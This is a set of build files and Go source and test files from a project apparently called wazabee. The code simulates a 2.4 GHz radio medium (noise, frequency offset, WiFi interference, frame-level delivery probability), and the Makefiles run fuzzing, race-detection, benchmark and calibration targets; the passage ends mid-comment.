	$(GO) test ./internal/capture -run '^$$' -fuzz FuzzZEPDecode -fuzztime $(FUZZTIME)

# One-shot link diagnostics over the simulated medium: exercises the
# whole TX → medium → RX → LinkStats path from the CLI.
smoke:
	$(GO) run ./cmd/wazabee link -frames 5

ci: vet build test race fuzz smoke
