GO ?= go
FUZZTIME ?= 5s

.PHONY: build vet test race racestream bench fuzz smoke ci

build:
	$(GO) build ./...

vet:
	$(GO) vet ./...

test:
	$(GO) test ./...

race:
	$(GO) test -race ./...

# Full benchmark sweep with allocation counts, repeated for statistical
# stability, persisted both as raw text (bench.out — feed two of these to
# benchstat to compare revisions) and as machine-readable BENCH.json.
# BenchmarkWazaBeeRX/TX are the pre-streaming "before" paths;
# BenchmarkRxStream/BenchmarkTxPooled are the pooled streaming "after".
BENCHCOUNT ?= 5
bench:
	$(GO) test -run '^$$' -bench . -benchmem -count $(BENCHCOUNT) . | tee bench.out
	$(GO) run ./cmd/benchjson -in bench.out -out BENCH.json

# Short smoke runs of the native fuzzers: the capture readers must never
# panic on corrupt pcap/ZEP input, and the streaming receiver must decode
# byte-identically for any fuzzed chunking of a capture.
fuzz:
	$(GO) test ./internal/capture -run '^$$' -fuzz FuzzPCAPRoundTrip -fuzztime $(FUZZTIME)
	$(GO) test ./internal/capture -run '^$$' -fuzz FuzzZEPDecode -fuzztime $(FUZZTIME)
	$(GO) test ./internal/core -run '^$$' -fuzz FuzzStreamChunks -fuzztime $(FUZZTIME)

# The concurrent per-channel streaming test under the race detector:
# many RxStreams plus whole-capture calls sharing one Receiver/registry.
racestream:
	$(GO) test -race -run TestStreamConcurrentChannels -count 4 ./internal/core

# One-shot link diagnostics over the simulated medium: exercises the
# whole TX → medium → RX → LinkStats path from the CLI.
smoke:
	$(GO) run ./cmd/wazabee link -frames 5

ci: vet build test race racestream fuzz smoke
