GO ?= go
FUZZTIME ?= 5s

.PHONY: build vet test race racestream racerunner racesim determinism bench fuzz smoke smoke-health smoke-sim campaign-smoke calibrate calibrate-check ci

build:
	$(GO) build ./...

vet:
	$(GO) vet ./...

test:
	$(GO) test ./...

race:
	$(GO) test -race ./...

# Full benchmark sweep with allocation counts, repeated for statistical
# stability, persisted both as raw text (bench.out — feed two of these to
# benchstat to compare revisions) and as machine-readable BENCH.json.
# BenchmarkWazaBeeRX/TX are the pre-streaming "before" paths;
# BenchmarkRxStream/BenchmarkTxPooled are the pooled streaming "after".
BENCHCOUNT ?= 5
bench:
	$(GO) test -run '^$$' -bench . -benchmem -count $(BENCHCOUNT) . | tee bench.out
	$(GO) run ./cmd/benchjson -in bench.out -out BENCH.json -history BENCH_history.jsonl

# Short smoke runs of the native fuzzers: the capture readers must never
# panic on corrupt pcap/ZEP input, and the streaming receiver must decode
# byte-identically for any fuzzed chunking of a capture.
fuzz:
	$(GO) test ./internal/capture -run '^$$' -fuzz FuzzPCAPRoundTrip -fuzztime $(FUZZTIME)
	$(GO) test ./internal/capture -run '^$$' -fuzz FuzzZEPDecode -fuzztime $(FUZZTIME)
	$(GO) test ./internal/core -run '^$$' -fuzz FuzzStreamChunks -fuzztime $(FUZZTIME)
	$(GO) test ./internal/experiment/runner -run '^$$' -fuzz FuzzCheckpointDecode -fuzztime $(FUZZTIME)

# The concurrent per-channel streaming test under the race detector:
# many RxStreams plus whole-capture calls sharing one Receiver/registry.
racestream:
	$(GO) test -race -run TestStreamConcurrentChannels -count 4 ./internal/core

# The Monte-Carlo runner hammered under the race detector: worker-pool
# churn and concurrent sweeps on one shared registry, with exact shard
# and trial accounting checked afterwards.
racerunner:
	$(GO) test -race -run 'TestRunnerHammer' -count 2 ./internal/experiment/runner

# The discrete-event simulator's concurrency surface under the race
# detector: multiple observers draining blocking capture channels while
# the event loop runs and the health registry is polled.
racesim:
	$(GO) test -race -run 'TestSimConcurrentObservers' -count 4 ./internal/zigbee/sim

# The reproducibility contracts: Monte-Carlo results bit-identical across
# worker counts {1,4,8}, sweep-order permutations, and checkpoint/resume
# boundaries; simulator capture sequences bit-identical across same-seed
# runs and event-batch sizes.
determinism:
	$(GO) test -run 'DeterministicAcrossWorkers|OrderIndependent|CheckpointResume|CancellationAndResume|ShuffledPointOrder' -count 1 ./internal/experiment ./internal/experiment/runner
	$(GO) test -run 'TestSimDeterministic|TestSimSeedsDiverge|TestRunDeterministicDigest' -count 1 ./internal/zigbee/sim ./cmd/wazabeesim
	$(GO) test -run 'TestFidelity' -count 1 ./internal/experiment

# Refit the symbol/frame-tier calibration tables from the IQ ground
# truth (internal/calib; ~20 s) and embed them. calibrate-check refits
# into memory and fails when the checked-in table has drifted from what
# the current DSP chain produces — the guard that keeps the cheap tiers
# honest as the IQ path evolves.
calibrate:
	$(GO) run ./cmd/calibrate
calibrate-check:
	$(GO) run ./cmd/calibrate -check

# One-shot link diagnostics over the simulated medium: exercises the
# whole TX → medium → RX → LinkStats path from the CLI.
smoke:
	$(GO) run ./cmd/wazabee link -frames 5

# End-to-end health smoke: boot wazabeed, wait for /readyz to go 200,
# assert the flight recorder is non-empty, then check the daemon shuts
# down cleanly on SIGTERM.
SMOKE_HEALTH_ADDR ?= 127.0.0.1:19753
smoke-health:
	./scripts/smoke-health.sh "$(SMOKE_HEALTH_ADDR)"

# End-to-end observatory smoke: a small simulated tree with -trace and
# -energy, validating the Chrome trace parses, energy totals are nonzero
# and same-seed traces stay byte-identical.
smoke-sim:
	./scripts/smoke-sim.sh

# End-to-end campaign smoke: two attack scenarios (plus the benign
# baseline) at 20 trials per cell through wazabeecampaign, asserting the
# ROC matrix digest matches the pinned value at two worker counts.
campaign-smoke:
	./scripts/smoke-campaign.sh

ci: vet build test race racestream racerunner racesim determinism calibrate-check fuzz smoke smoke-health smoke-sim campaign-smoke
