package radio

import (
	"math"
	"testing"
)

// TestVirtualSuccessProbGolden pins the frame-level success probability
// of the virtual delivery path at its edge cases — zero-length PSDU,
// extreme SNR at both ends, the adjacent-channel penalty and two
// mid-curve operating points — so any change to the underlying model
// shows up as a reviewable golden diff rather than a silent shift in
// every mesh simulation's loss rate.
//
// The goldens are probed through DeliverVirtual's SuccessProb (the
// public surface), not the internal probability function, so the test
// survives the model being swapped out as long as the swap is
// deliberate and the goldens are updated alongside it.
func TestVirtualSuccessProbGolden(t *testing.T) {
	m, err := NewMedium(16e6, 1)
	if err != nil {
		t.Fatal(err)
	}
	cases := []struct {
		name   string
		psdu   int
		snr    float64
		rxFreq float64
		want   float64
		// tol is absolute; the extreme cases must hit their asymptote
		// exactly, the mid-curve points get a small numerical margin.
		tol float64
	}{
		// The values are the calibrated frame-tier model fitted from the
		// IQ ground truth (cmd/calibrate); refitting the table with
		// different options legitimately moves the mid-curve goldens.
		//
		// Zero-length PSDU at a healthy mesh SNR: only the PHR can
		// fail, and at 25 dB it never does.
		{"zero-length/snr25", 0, 25, 2420, 1, 0},
		// +60 dB is far beyond any chip-error regime: certain delivery.
		{"len40/snr+60", 40, 60, 2420, 1, 0},
		// -60 dB clamps to the deepest calibrated cell, where the real
		// receiver never once achieved sync: exactly zero.
		{"len40/snr-60", 40, -60, 2420, 0, 0},
		// The mesh simulator's default operating point.
		{"len40/snr25/co-channel", 40, 25, 2420, 1, 0},
		// Adjacent channel: the burst arrives 20 dB down, so 25 dB link
		// SNR lands at an effective 5 dB — mid-waterfall, where the IQ
		// chain measurably loses sync on a few percent of frames …
		{"len40/snr25/adjacent", 40, 25, 2421, 0.92840461394721263, 1e-9},
		// … and the penalty must be a strict degradation (see below).
		{"len127/snr5", 127, 5, 2420, 0.9280507407075802, 1e-9},
		{"len40/snr0", 40, 0, 2420, 0.084928025194354301, 1e-9},
		{"len40/snr8", 40, 8, 2420, 1, 1e-9},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			out := m.DeliverVirtual(c.psdu, 2420, c.rxFreq, Link{SNRdB: c.snr}, 1)
			if !out.InBand {
				t.Fatalf("delivery unexpectedly out of band")
			}
			if math.Abs(out.SuccessProb-c.want) > c.tol {
				t.Errorf("SuccessProb = %.17g, want %.17g (±%g)", out.SuccessProb, c.want, c.tol)
			}
		})
	}
}

// TestVirtualSuccessProbShape pins the model-independent invariants the
// golden cases rely on: probability is monotone in SNR, monotone in
// frame length (longer frames can only be likelier to fail), and the
// adjacent-channel path is never better than co-channel.
func TestVirtualSuccessProbShape(t *testing.T) {
	m, err := NewMedium(16e6, 1)
	if err != nil {
		t.Fatal(err)
	}
	prob := func(psdu int, snr, rxFreq float64) float64 {
		return m.DeliverVirtual(psdu, 2420, rxFreq, Link{SNRdB: snr}, 1).SuccessProb
	}
	snrs := []float64{-60, -10, 0, 2, 5, 8, 12, 25, 60}
	for i := 1; i < len(snrs); i++ {
		lo, hi := prob(40, snrs[i-1], 2420), prob(40, snrs[i], 2420)
		if lo > hi {
			t.Errorf("success prob not monotone in SNR: p(%g)=%g > p(%g)=%g",
				snrs[i-1], lo, snrs[i], hi)
		}
	}
	for _, snr := range []float64{0, 2, 5, 8} {
		if pShort, pLong := prob(10, snr, 2420), prob(127, snr, 2420); pLong > pShort {
			t.Errorf("snr %g: longer frame more likely to deliver: len127 %g > len10 %g", snr, pLong, pShort)
		}
		if pCo, pAdj := prob(40, snr, 2420), prob(40, snr, 2421); pAdj > pCo {
			t.Errorf("snr %g: adjacent channel beats co-channel: %g > %g", snr, pAdj, pCo)
		}
	}
}
