// Package radio simulates the shared 2.4 GHz medium between the radios of
// the experiments: per-link signal-to-noise ratio, carrier frequency
// offset between crystals, random burst timing, channel selectivity and
// co-channel WiFi interference. It stands in for the over-the-air path of
// the paper's test bench (transmitter and receiver 3 m apart in an office
// with live WiFi on channels 6 and 11).
package radio

import (
	"fmt"
	"math"
	"math/rand"
	"sync"
	"time"

	"wazabee/internal/dsp"
	"wazabee/internal/obs"
)

// Link describes the propagation between one transmitter and one receiver.
type Link struct {
	// SNRdB is the signal-to-noise ratio at the receiver input.
	SNRdB float64
	// CFOHz is the carrier frequency offset between the two radios'
	// crystals.
	CFOHz float64
	// LeadSamples and LagSamples bound the random noise-only padding
	// around the burst (receiver opens its window before the frame).
	LeadSamples, LagSamples int
	// InterferenceRejectionDB attenuates co-channel interference at the
	// receiver, modelling its blocking/selectivity performance — the
	// analog quality that separates receivers under a busy WiFi band.
	InterferenceRejectionDB float64
}

// Medium is a deterministic radio channel simulator.
type Medium struct {
	// SampleRateHz is the complex-baseband sample rate shared by all
	// attached modems.
	SampleRateHz float64

	// Obs receives the medium's metrics (bursts delivered, SNR/CFO
	// gauges, interference hits); nil falls back to the process default
	// registry.
	Obs *obs.Registry

	// Trace, when non-nil, records a "medium" span per delivery.
	Trace *obs.Trace

	rnd         *rand.Rand
	interferers []WiFiInterferer

	// virtualCh is the lazily-built frame-fidelity channel behind
	// DeliverVirtual (see virtualChannel).
	virtualOnce sync.Once
	virtualCh   Channel
	virtualErr  error
}

// NewMedium builds a medium with the given sample rate and seed. All
// randomness (noise, burst timing, interference) flows from the seed, so
// experiments reproduce exactly.
func NewMedium(sampleRateHz float64, seed int64) (*Medium, error) {
	if sampleRateHz <= 0 {
		return nil, fmt.Errorf("radio: sample rate %g <= 0", sampleRateHz)
	}
	return &Medium{
		SampleRateHz: sampleRateHz,
		rnd:          rand.New(rand.NewSource(seed)),
	}, nil
}

// AddWiFi attaches a WiFi interferer to the medium.
func (m *Medium) AddWiFi(w WiFiInterferer) {
	m.interferers = append(m.interferers, w)
}

// Rand exposes the medium's random source so callers sequencing several
// deliveries share one deterministic stream.
//
// The returned *rand.Rand is NOT synchronised: it must only be used
// from the single goroutine that drives this medium's waveform
// deliveries (Deliver, DeliverChunks, Replay all draw from it).
// Seed-parameterised deliveries — DeliverVirtual and the symbol/frame
// fidelity tiers of Channel — never touch this stream, which is what
// makes them safe to call concurrently with per-call seeds.
func (m *Medium) Rand() *rand.Rand {
	return m.rnd
}

// Deliver propagates a burst transmitted at txFreqMHz to a receiver tuned
// to rxFreqMHz and returns the waveform at the receiver's ADC. A
// transmission more than one channel-width away returns pure noise (the
// receiver hears nothing); a co-channel transmission is delayed by a
// random intra-window offset, frequency-shifted by the residual CFO,
// degraded by AWGN at the link SNR and overlaid with any interference
// bursts active on that frequency.
func (m *Medium) Deliver(sig dsp.IQ, txFreqMHz, rxFreqMHz float64, link Link) (dsp.IQ, error) {
	if len(sig) == 0 {
		return nil, fmt.Errorf("radio: empty transmission")
	}
	lead := link.LeadSamples
	lag := link.LagSamples
	if lead < 0 || lag < 0 {
		return nil, fmt.Errorf("radio: negative padding")
	}

	reg := obs.Or(m.Obs)
	end := obs.Stage(reg, m.Trace, "medium")
	defer end()
	// The medium is the TX→RX boundary: observing its wall time as the
	// "medium" latency stage lets the daemon's emit→demod numbers be
	// decomposed into channel-simulation cost vs DSP cost.
	start := time.Now()
	defer func() {
		obs.LatencyHistogram(reg, "medium").Observe(obs.DurationSeconds(time.Since(start)))
	}()

	sep := txFreqMHz - rxFreqMHz
	if sep < 0 {
		sep = -sep
	}

	noisePower := sig.Power() / math.Pow(10, link.SNRdB/10)
	out, err := dsp.NoiseFloor(lead+len(sig)+lag, noisePower, m.rnd)
	if err != nil {
		return nil, err
	}

	if sep < 2 {
		// Co- or adjacent-channel: the burst reaches the receiver.
		// Adjacent-channel energy is attenuated by the receive
		// filter; in-channel passes at full power.
		burst := sig.Clone()
		if link.CFOHz != 0 {
			burst.MixFrequency(link.CFOHz / m.SampleRateHz)
		}
		if sep >= 1 {
			burst.Scale(0.1) // strong adjacent-channel rejection
		}
		offset := lead
		if lead > 0 {
			offset = m.rnd.Intn(lead + 1)
		}
		out.Add(burst, offset)
		reg.Counter("wazabee_medium_bursts_total", "path", "in_band").Inc()
	} else {
		reg.Counter("wazabee_medium_bursts_total", "path", "out_of_band").Inc()
	}
	reg.Gauge("wazabee_medium_snr_db").Set(link.SNRdB)
	reg.Gauge("wazabee_medium_cfo_hz").Set(link.CFOHz)

	for _, w := range m.interferers {
		hit, err := w.apply(out, rxFreqMHz, link.InterferenceRejectionDB, m)
		if err != nil {
			return nil, err
		}
		if hit {
			reg.Counter("wazabee_medium_interference_hits_total").Inc()
		}
	}
	return out, nil
}

// DeliverChunks is the chunked delivery mode of the streaming pipeline:
// it propagates a burst exactly like Deliver, then hands the resulting
// receiver-side capture to fn in consecutive slabs of at most chunk
// samples instead of one whole buffer. The slabs alias the delivered
// capture, so fn must not retain them past its return (a streaming
// receiver copies what it carries over — see internal/dsp/stream's
// ownership contract). fn's first error aborts the walk and is returned.
func (m *Medium) DeliverChunks(sig dsp.IQ, txFreqMHz, rxFreqMHz float64, link Link, chunk int, fn func(dsp.IQ) error) error {
	if chunk <= 0 {
		return fmt.Errorf("radio: chunk size %d <= 0", chunk)
	}
	if fn == nil {
		return fmt.Errorf("radio: nil chunk callback")
	}
	out, err := m.Deliver(sig, txFreqMHz, rxFreqMHz, link)
	if err != nil {
		return err
	}
	for start := 0; start < len(out); start += chunk {
		end := start + chunk
		if end > len(out) {
			end = len(out)
		}
		if err := fn(out[start:end]); err != nil {
			return err
		}
	}
	return nil
}

// Replay is the injection point for recorded captures: it propagates a
// burst that originally aired at txFreqMHz to a receiver tuned to
// rxFreqMHz, exactly like Deliver, but accounts the burst separately so
// telemetry distinguishes replayed traffic from live traffic.
func (m *Medium) Replay(sig dsp.IQ, txFreqMHz, rxFreqMHz float64, link Link) (dsp.IQ, error) {
	out, err := m.Deliver(sig, txFreqMHz, rxFreqMHz, link)
	if err != nil {
		return nil, err
	}
	obs.Or(m.Obs).Counter("wazabee_medium_replayed_total").Inc()
	return out, nil
}
