package radio

import (
	"math"
	"testing"

	"wazabee/internal/dsp"
	"wazabee/internal/obs"
)

func carrier(n int) dsp.IQ {
	s := make(dsp.IQ, n)
	for i := range s {
		s[i] = 1
	}
	return s
}

func TestNewMediumValidation(t *testing.T) {
	if _, err := NewMedium(0, 1); err == nil {
		t.Error("expected error for zero sample rate")
	}
	m, err := NewMedium(16e6, 1)
	if err != nil {
		t.Fatal(err)
	}
	if m.Rand() == nil {
		t.Error("Rand() returned nil")
	}
}

func TestDeliverCoChannel(t *testing.T) {
	m, err := NewMedium(16e6, 7)
	if err != nil {
		t.Fatal(err)
	}
	sig := carrier(4096)
	out, err := m.Deliver(sig, 2420, 2420, Link{SNRdB: 30, LeadSamples: 100, LagSamples: 100})
	if err != nil {
		t.Fatal(err)
	}
	if len(out) != 4096+200 {
		t.Fatalf("delivered length = %d, want %d", len(out), 4296)
	}
	// The mid-section must carry the signal (power near 1), the tail
	// only the noise floor.
	mid := out[300:4000]
	if p := mid.Power(); p < 0.5 {
		t.Errorf("mid-burst power = %g, want ~1", p)
	}
	tail := out[len(out)-50:]
	if p := tail.Power(); p > 0.1 {
		t.Errorf("tail power = %g, want noise floor only", p)
	}
}

func TestDeliverFarChannelHearsNothing(t *testing.T) {
	m, err := NewMedium(16e6, 8)
	if err != nil {
		t.Fatal(err)
	}
	sig := carrier(2048)
	out, err := m.Deliver(sig, 2420, 2450, Link{SNRdB: 30})
	if err != nil {
		t.Fatal(err)
	}
	if p := out.Power(); p > 0.1 {
		t.Errorf("out-of-channel delivery power = %g, want noise floor", p)
	}
}

func TestDeliverAdjacentChannelAttenuated(t *testing.T) {
	m, err := NewMedium(16e6, 9)
	if err != nil {
		t.Fatal(err)
	}
	sig := carrier(2048)
	out, err := m.Deliver(sig, 2420, 2421, Link{SNRdB: 40})
	if err != nil {
		t.Fatal(err)
	}
	p := out.Power()
	if p > 0.2 || p < 0.001 {
		t.Errorf("adjacent-channel power = %g, want strongly attenuated but nonzero", p)
	}
}

func TestDeliverAppliesCFO(t *testing.T) {
	m, err := NewMedium(16e6, 10)
	if err != nil {
		t.Fatal(err)
	}
	sig := carrier(8192)
	out, err := m.Deliver(sig, 2420, 2420, Link{SNRdB: 60, CFOHz: 50e3})
	if err != nil {
		t.Fatal(err)
	}
	incs := dsp.Discriminate(out)
	got := dsp.MeanFrequency(incs) * 16e6 / (2 * math.Pi)
	if math.Abs(got-50e3) > 2e3 {
		t.Errorf("measured CFO = %g Hz, want 50 kHz", got)
	}
}

func TestDeliverErrors(t *testing.T) {
	m, _ := NewMedium(16e6, 11)
	if _, err := m.Deliver(nil, 2420, 2420, Link{}); err == nil {
		t.Error("expected error for empty transmission")
	}
	if _, err := m.Deliver(carrier(8), 2420, 2420, Link{LeadSamples: -1}); err == nil {
		t.Error("expected error for negative padding")
	}
}

func TestDeliverDeterministic(t *testing.T) {
	run := func() dsp.IQ {
		m, err := NewMedium(16e6, 42)
		if err != nil {
			t.Fatal(err)
		}
		out, err := m.Deliver(carrier(512), 2420, 2420, Link{SNRdB: 10, LeadSamples: 64})
		if err != nil {
			t.Fatal(err)
		}
		return out
	}
	a, b := run(), run()
	for i := range a {
		if a[i] != b[i] {
			t.Fatal("same seed produced different deliveries")
		}
	}
}

func TestWiFiChannelFrequency(t *testing.T) {
	tests := []struct {
		channel int
		want    float64
	}{
		{1, 2412}, {6, 2437}, {11, 2462},
	}
	for _, tt := range tests {
		got, err := WiFiChannelFrequencyMHz(tt.channel)
		if err != nil {
			t.Fatal(err)
		}
		if got != tt.want {
			t.Errorf("WiFi channel %d = %g MHz, want %g", tt.channel, got, tt.want)
		}
	}
	if _, err := WiFiChannelFrequencyMHz(0); err == nil {
		t.Error("expected error for channel 0")
	}
	if _, err := WiFiChannelFrequencyMHz(14); err == nil {
		t.Error("expected error for channel 14")
	}
}

func TestNewWiFiInterfererValidation(t *testing.T) {
	if _, err := NewWiFiInterferer(6, -0.1, 1, 100); err == nil {
		t.Error("expected error for negative duty cycle")
	}
	if _, err := NewWiFiInterferer(6, 0.5, -1, 100); err == nil {
		t.Error("expected error for negative power")
	}
	if _, err := NewWiFiInterferer(6, 0.5, 1, 0); err == nil {
		t.Error("expected error for zero burst length")
	}
	if _, err := NewWiFiInterferer(77, 0.5, 1, 100); err == nil {
		t.Error("expected error for invalid channel")
	}
}

func TestWiFiOverlapShape(t *testing.T) {
	w, err := NewWiFiInterferer(6, 0.4, 1, 400) // 2437 MHz
	if err != nil {
		t.Fatal(err)
	}
	// Zigbee channels near the WiFi centre overlap strongly; distant
	// ones not at all. 2435/2440 = Zigbee 17/18; 2425 = Zigbee 15.
	if w.Overlap(2437) != 1 {
		t.Error("zero-offset overlap should be 1")
	}
	strong := w.Overlap(2435)
	weak := w.Overlap(2430)
	none := w.Overlap(2425)
	if !(strong > weak && weak > none) {
		t.Errorf("overlap not monotonic: %g, %g, %g", strong, weak, none)
	}
	if none != 0 {
		t.Errorf("overlap at 12 MHz offset = %g, want 0", none)
	}
}

func TestWiFiInterferenceDegradesVictimChannel(t *testing.T) {
	m, err := NewMedium(16e6, 5)
	if err != nil {
		t.Fatal(err)
	}
	w, err := NewWiFiInterferer(6, 0.5, 4.0, 500)
	if err != nil {
		t.Fatal(err)
	}
	m.AddWiFi(w)

	deliverPower := func(rxMHz float64) float64 {
		out, err := m.Deliver(carrier(20000), rxMHz, rxMHz, Link{SNRdB: 60})
		if err != nil {
			t.Fatal(err)
		}
		return out.Power()
	}
	onWiFi := deliverPower(2440)  // Zigbee 18, inside WiFi 6
	offWiFi := deliverPower(2480) // Zigbee 26, far away
	if onWiFi <= offWiFi*1.2 {
		t.Errorf("power on interfered channel %g not above clean channel %g", onWiFi, offWiFi)
	}
}

// TestDeliverObservesMediumLatency pins the "medium" latency stage:
// every Deliver call self-times the channel simulation into
// wazabee_latency_seconds{stage="medium"} on the medium's registry.
func TestDeliverObservesMediumLatency(t *testing.T) {
	m, err := NewMedium(16e6, 5)
	if err != nil {
		t.Fatal(err)
	}
	m.Obs = obs.NewRegistry()
	if _, err := m.Deliver(carrier(256), 2425, 2425, Link{SNRdB: 20}); err != nil {
		t.Fatal(err)
	}
	h := obs.LatencyHistogram(m.Obs, "medium")
	if got := h.Count(); got != 1 {
		t.Fatalf("medium latency count = %d after one delivery, want 1", got)
	}
	if h.Sum() <= 0 {
		t.Errorf("medium latency sum = %g, want > 0", h.Sum())
	}
}
