package radio

import (
	"math"
	"testing"

	"wazabee/internal/obs"
)

func TestDeliverVirtualPassbandGate(t *testing.T) {
	m, err := NewMedium(16e6, 1)
	if err != nil {
		t.Fatal(err)
	}
	m.Obs = obs.NewRegistry()
	link := Link{SNRdB: 30}

	out := m.DeliverVirtual(20, 2420, 2470, link, 1)
	if out.InBand || out.Delivered {
		t.Errorf("out-of-band delivery reported %+v", out)
	}
	out = m.DeliverVirtual(20, 2420, 2420, link, 1)
	if !out.InBand {
		t.Error("co-channel transmission not in band")
	}
	if !out.Delivered {
		t.Error("30 dB co-channel frame erased (success prob should be ~1)")
	}
	if out.SuccessProb < 0.999 {
		t.Errorf("success prob %g at 30 dB, want ~1", out.SuccessProb)
	}
}

func TestDeliverVirtualDeterministicInSeed(t *testing.T) {
	m1, _ := NewMedium(16e6, 1)
	m2, _ := NewMedium(16e6, 99) // different medium seed must not matter
	m1.Obs = obs.NewRegistry()
	m2.Obs = obs.NewRegistry()
	link := Link{SNRdB: 1.5} // deep in the erasure regime
	for seed := uint64(0); seed < 512; seed++ {
		a := m1.DeliverVirtual(60, 2420, 2420, link, seed)
		b := m2.DeliverVirtual(60, 2420, 2420, link, seed)
		if a != b {
			t.Fatalf("seed %d: outcomes diverge: %+v vs %+v", seed, a, b)
		}
	}
}

func TestDeliverVirtualErasureRateTracksProbability(t *testing.T) {
	m, _ := NewMedium(16e6, 1)
	m.Obs = obs.NewRegistry()
	link := Link{SNRdB: 2}
	const trials = 20000
	delivered := 0
	var prob float64
	for seed := uint64(0); seed < trials; seed++ {
		out := m.DeliverVirtual(40, 2420, 2420, link, seed)
		prob = out.SuccessProb
		if out.Delivered {
			delivered++
		}
	}
	if prob <= 0 || prob >= 1 {
		t.Fatalf("success prob %g not in the mixed regime; pick a different SNR", prob)
	}
	got := float64(delivered) / trials
	// Binomial std dev ~ sqrt(p(1-p)/n); allow 5 sigma.
	tol := 5 * math.Sqrt(prob*(1-prob)/trials)
	if math.Abs(got-prob) > tol {
		t.Errorf("delivered rate %.4f vs model prob %.4f (tol %.4f)", got, prob, tol)
	}
}

func TestDeliverVirtualAdjacentChannelPenalty(t *testing.T) {
	m, _ := NewMedium(16e6, 1)
	m.Obs = obs.NewRegistry()
	link := Link{SNRdB: 12}
	co := m.DeliverVirtual(40, 2420, 2420, link, 7)
	adj := m.DeliverVirtual(40, 2420, 2421, link, 7)
	if !adj.InBand {
		t.Fatal("adjacent channel should still be in band")
	}
	if adj.SuccessProb >= co.SuccessProb {
		t.Errorf("adjacent-channel success prob %g not below co-channel %g", adj.SuccessProb, co.SuccessProb)
	}
}

// TestSymbolCorrectProbTable pins the despreader-consistency invariants
// of the frame tier's per-symbol decode table: up to half the minimum
// codeword distance always decodes, and more chip errors never help.
func TestSymbolCorrectProbTable(t *testing.T) {
	p := symbolCorrectProbTable()
	for k := 0; k <= 5; k++ {
		if p[k] != 1 {
			t.Errorf("P[decode | %d chip errors] = %g, want 1 (min codeword distance 12)", k, p[k])
		}
	}
	for k := 7; k <= 16; k++ {
		if p[k] > p[k-1]+0.02 { // Monte-Carlo jitter margin
			t.Errorf("P[decode | %d errors] = %g above P[decode | %d] = %g", k, p[k], k-1, p[k-1])
		}
	}
	if p[16] > 0.5 {
		t.Errorf("P[decode | 16 errors] = %g, want near-random despreading", p[16])
	}
}
