package radio

import (
	"fmt"
	"math"

	"wazabee/internal/dsp"
)

// WiFiInterferer models an 802.11 network sharing the 2.4 GHz band. WiFi
// frames are ~22 MHz wide, so from inside a 2 MHz Zigbee/BLE channel they
// appear as wideband noise bursts gated by the network's duty cycle, with
// power falling off toward the band edges. The paper's environment had
// live networks on WiFi channels 6 (2437 MHz) and 11 (2462 MHz), which is
// what degrades Zigbee channels 17–18 and 21–23 in Table III.
type WiFiInterferer struct {
	// CenterMHz is the WiFi channel centre frequency.
	CenterMHz float64
	// BandwidthMHz is the occupied bandwidth (22 for 802.11b/g).
	BandwidthMHz float64
	// DutyCycle is the fraction of time the network transmits.
	DutyCycle float64
	// Power is the interference power, relative to unit received signal
	// power, at zero spectral offset.
	Power float64
	// BurstSamples is the mean burst length in samples (one WiFi frame).
	BurstSamples int
}

// WiFiChannelFrequencyMHz returns the centre frequency of a 2.4 GHz WiFi
// channel (1..13): 2412 + 5(k-1).
func WiFiChannelFrequencyMHz(channel int) (float64, error) {
	if channel < 1 || channel > 13 {
		return 0, fmt.Errorf("radio: WiFi channel %d out of range [1,13]", channel)
	}
	return 2412 + 5*float64(channel-1), nil
}

// NewWiFiInterferer builds an interferer for a 2.4 GHz WiFi channel with
// standard 22 MHz bandwidth.
func NewWiFiInterferer(channel int, dutyCycle, power float64, burstSamples int) (WiFiInterferer, error) {
	center, err := WiFiChannelFrequencyMHz(channel)
	if err != nil {
		return WiFiInterferer{}, err
	}
	if dutyCycle < 0 || dutyCycle > 1 {
		return WiFiInterferer{}, fmt.Errorf("radio: duty cycle %g out of [0,1]", dutyCycle)
	}
	if power < 0 {
		return WiFiInterferer{}, fmt.Errorf("radio: negative interference power %g", power)
	}
	if burstSamples < 1 {
		return WiFiInterferer{}, fmt.Errorf("radio: burst length %d < 1", burstSamples)
	}
	return WiFiInterferer{
		CenterMHz:    center,
		BandwidthMHz: 22,
		DutyCycle:    dutyCycle,
		Power:        power,
		BurstSamples: burstSamples,
	}, nil
}

// Overlap returns the spectral overlap weight (0..1) of the interferer at
// a victim centre frequency: a steep (1−x²)³ roll-off across the half
// bandwidth, matching the OFDM power profile well enough that channels
// within a few MHz of the WiFi centre suffer strongly while channels near
// the skirt are only mildly touched — the pattern of Table III.
func (w WiFiInterferer) Overlap(victimMHz float64) float64 {
	df := victimMHz - w.CenterMHz
	if df < 0 {
		df = -df
	}
	half := w.BandwidthMHz / 2
	if half <= 0 || df >= half {
		return 0
	}
	x := df / half
	y := 1 - x*x
	return y * y * y
}

// apply overlays interference bursts onto a receiver capture,
// attenuated by the receiver's blocking performance. It reports whether
// the interferer actually reached the capture (spectral overlap and
// non-zero duty cycle), so the medium can count interference hits.
func (w WiFiInterferer) apply(sig dsp.IQ, rxFreqMHz, rejectionDB float64, m *Medium) (bool, error) {
	weight := w.Overlap(rxFreqMHz)
	if weight == 0 || w.DutyCycle == 0 || w.Power == 0 {
		return false, nil
	}
	power := w.Power * weight * math.Pow(10, -rejectionDB/10)
	return true, dsp.BurstNoise(sig, w.DutyCycle, w.BurstSamples, power, m.rnd)
}
