package radio

import (
	"math"
	"sync"

	"wazabee/internal/obs"
)

// VirtualOutcome is the frame-level result of a virtual-time delivery:
// whether the burst reached the receiver's passband at all, and whether
// the frame survived the link's noise. It is the discrete-event
// simulator's stand-in for the waveform Deliver returns — the same link
// physics collapsed to one deterministic per-frame decision, so a
// thousand-node mesh never pays for IQ synthesis.
type VirtualOutcome struct {
	// InBand reports that the transmission landed within one channel
	// width of the receiver's tuning (the condition under which Deliver
	// would have mixed the burst into the capture).
	InBand bool
	// Delivered reports that the frame decoded at the receiver: in band
	// and not erased by noise.
	Delivered bool
	// SuccessProb is the per-frame decode probability the erasure draw
	// was made against, exposed for calibration tests.
	SuccessProb float64
}

// perCache memoises the most recent (SNR, adjacent, length) → success
// probability computation. Virtual meshes deliver millions of frames at
// a handful of distinct operating points, so one entry captures nearly
// every lookup.
type perCache struct {
	mu      sync.Mutex
	snrDB   float64
	adj     bool
	psduLen int
	valid   bool
	prob    float64
}

// DeliverVirtual propagates one frame at the frame level: no waveform is
// synthesised; instead the link SNR is mapped to a per-frame decode
// probability (independent chip errors, nearest-codeword DSSS decoding)
// and the outcome is drawn deterministically from seed. The decision
// depends only on (link, frequencies, psduLen, seed) — never on the
// medium's shared random stream — so virtual deliveries are bit-identical
// at any event order, which is what the discrete-event simulator's
